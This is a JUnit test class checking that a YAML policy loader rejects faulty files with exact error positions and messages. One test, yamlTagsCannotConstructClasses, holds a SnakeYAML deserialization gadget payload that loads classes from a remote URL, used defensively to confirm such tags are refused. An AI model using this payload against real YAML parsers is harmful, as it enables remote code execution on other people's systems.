package org.caseshare.policy;

import static org.assertj.core.api.Assertions.assertThat;

import org.caseshare.support.SmallPolicy;
import org.junit.jupiter.api.Test;

/** A policy file with a mistake is refused as a whole, with errors that say where and what. */
class BadPolicyFileTests {

    /** A small valid policy; each test changes one thing. Line numbers below refer to this text. */
    private static final String VALID = SmallPolicy.TEXT;

    private final PolicyLoader loader = new PolicyLoader();

    @Test
    void theUnchangedFileLoads() {
        PolicyLoadResult result = loader.load(VALID);

        assertThat(result.errors()).isEmpty();
        assertThat(result.policy()).isPresent();
    }

    @Test
    void unknownChannel() {
        PolicyLoadResult result = loader.load(VALID.replace("channels: [post]", "channels: [pigeon]"));

        assertRefusedWith(result, 7, 16, "unknown channel 'pigeon'; expected one of: telephone, by-hand,"
                + " post, email, secure-hub, removable-device, fax");
    }

    @Test
    void duplicateSafeguardId() {
        String text = VALID.replace("rules:\n", """
                  - id: post.double-envelope
                    text: Seal it twice.
                    guide: Seal the information in a double envelope
                rules:
                """);

        assertRefusedWith(result(text), 10, 9,
                "duplicate safeguard id 'post.double-envelope' (first used on line 6)");
    }

    @Test
    void unknownMarking() {
        String text = VALID.replace("    then:\n", """
                    when:
                      marking: [OFFICIAL-SENSITIVE, SECRETIVE]
                    then:
                """);

        assertRefusedWith(result(text), 15, 37, "unknown marking 'SECRETIVE'; expected one of: OFFICIAL,"
                + " OFFICIAL-SENSITIVE, SECRET, TOP SECRET, NOT PROTECTIVELY MARKED, PROTECT, RESTRICTED,"
                + " CONFIDENTIAL");
    }

    @Test
    void ruleThatCanNeverMatchBecauseItsConditionsContradict() {
        String text = VALID.replace("    then:\n", """
                    when:
                      between: [council, school]
                      recipient: [health]
                    then:
                """);

        PolicyLoadResult result = result(text);

        assertRefusedWith(result, 15, 7, "rule 'baseline' can never match: no situation meets all of its"
                + " 'when' conditions together (compare 'between' with 'sender' and 'recipient', and"
                + " 'marking' with the other conditions)");
    }

    @Test
    void ruleThatCanNeverMatchBecauseAConditionListsNothing() {
        String text = VALID.replace("    then:\n", """
                    when:
                      urgency: []
                    then:
                """);

        assertRefusedWith(result(text), 15, 16, "rule 'baseline' can never match: 'urgency' lists nothing"
                + " (leave the field out to match every urgency)");
    }

    @Test
    void malformedYaml() {
        PolicyLoadResult result = loader.load(VALID.replace("channels: [post]", "channels: [post"));

        assertThat(result.policy()).isEmpty();
        assertThat(result.errors()).hasSize(1);
        PolicyError error = result.errors().get(0);
        assertThat(error.message()).startsWith("the file is not valid YAML: ");
        assertThat(error.line()).isEqualTo(8);
        assertThat(error.column()).isEqualTo(9);
    }

    @Test
    void missingField() {
        PolicyLoadResult result = loader.load(VALID.replace("    because: Every channel is open with its checklist.\n", ""));

        assertRefusedWith(result, 11, 5, "a rule is missing the field 'because'");
    }

    @Test
    void misspeltField() {
        PolicyLoadResult result = loader.load(VALID.replace("channels: all", "chanels: all"));

        assertThat(result.policy()).isEmpty();
        assertThat(result.errors()).extracting(PolicyError::toString).containsExactly(
                "line 15, column 7: unknown field 'chanels' in rule 'baseline': then; expected one of:"
                        + " advice, advice-cy, authoriser, channels, conditions, minimal-record-first, outcome",
                "line 15, column 7: rule 'baseline': then is missing the field 'channels'");
    }

    @Test
    void ruleNamingAnUnknownSafeguard() {
        String text = VALID.replace("      outcome: allowed\n", """
                      outcome: allowed-with-conditions
                      conditions: [post.triple-envelope]
                """);

        assertRefusedWith(result(text), 17, 20, "rule 'baseline' names an unknown safeguard 'post.triple-envelope'");
    }

    @Test
    void allowedWithAnAuthoriserContradictsItself() {
        String text = VALID.replace("      outcome: allowed\n", """
                      outcome: allowed
                      authoriser: manager
                """);

        assertRefusedWith(result(text), 16, 16, "rule 'baseline' is 'allowed' but sets conditions or an"
                + " authoriser: use 'allowed-with-conditions'");
    }

    @Test
    void anEmptyGuideQuoteWouldTraceToEverythingSoItIsRefused() {
        PolicyLoadResult result = loader.load(VALID.replace("guide: Seal the information in a double envelope",
                "guide: ['']"));

        assertRefusedWith(result, 9, 13, "safeguard 'post.double-envelope': a guide quote cannot be empty");
    }

    @Test
    void aSingleValueGivenAsAListIsNotCutToItsFirstItem() {
        String text = VALID.replace("      outcome: allowed\n", """
                      outcome: allowed-with-conditions
                      authoriser: [manager, information-security-officer]
                """);

        assertRefusedWith(result(text), 17, 19, "rule 'baseline': authoriser must be a single value, one of:"
                + " manager, information-security-officer");
    }

    @Test
    void unreadableDuration() {
        PolicyLoadResult result = loader.load(VALID.replace("24h", "a day or so"));

        assertRefusedWith(result, 3, 34, "full-record-due-after-emergency must be a length of time such as"
                + " 24h, 2 days or PT24H");
    }

    @Test
    void repeatedFieldIsNotSilentlyOverwritten() {
        PolicyLoadResult result = loader.load(VALID.replace("title: Test policy\n",
                "title: Test policy\ntitle: Another\n"));

        assertRefusedWith(result, 3, 1, "field 'title' appears twice in the policy");
    }

    @Test
    void everyMistakeIsReportedInFileOrderAndNothingIsLoaded() {
        String text = VALID.replace("version: 1", "version: 0").replace("channels: [post]", "channels: [pigeon]")
                .replace("outcome: allowed", "outcome: maybe");

        PolicyLoadResult result = loader.load(text);

        assertThat(result.isValid()).isFalse();
        assertThat(result.policy()).isEmpty();
        assertThat(result.errors()).extracting(PolicyError::line).containsExactly(1, 7, 16);
    }

    @Test
    void emptyFile() {
        assertRefusedWith(loader.load("   \n"), 1, 1, "the policy file is empty");
    }

    @Test
    void yamlTagsCannotConstructClasses() {
        String text = VALID.replace("title: Test policy",
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]");

        assertRefusedWith(loader.load(text), 2, 8, "the file is not valid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager");
    }

    private PolicyLoadResult result(String text) {
        return loader.load(text);
    }

    private static void assertRefusedWith(PolicyLoadResult result, int line, int column, String message) {
        assertThat(result.policy()).as("no policy from a bad file").isEmpty();
        assertThat(result.isValid()).isFalse();
        assertThat(result.errors()).containsExactly(new PolicyError(line, column, message));
    }
}
